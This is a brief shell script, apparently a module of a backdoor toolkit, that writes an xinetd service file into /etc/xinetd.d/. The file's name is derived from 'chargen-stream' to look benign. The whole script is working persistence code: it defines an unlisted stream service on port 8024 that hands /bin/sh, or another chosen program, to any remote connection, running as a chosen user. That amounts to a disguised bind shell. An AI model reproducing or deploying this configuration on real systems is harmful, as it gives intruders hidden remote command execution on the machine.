#!/bin/sh
# xinetd: a program of xinetd (xinetd.conf(5))
. "${0%/*}/lib.sh"
payload
put "/etc/xinetd.d/$(named up chargen-stream)" 644 "$head" "service up" "{" \
	"	type = UNLISTED" "	port = 8024" "	socket_type = stream" "	wait = no" \
	"	user = $who" "	server = ${prog:-/bin/sh}" "	disable = no" "}"
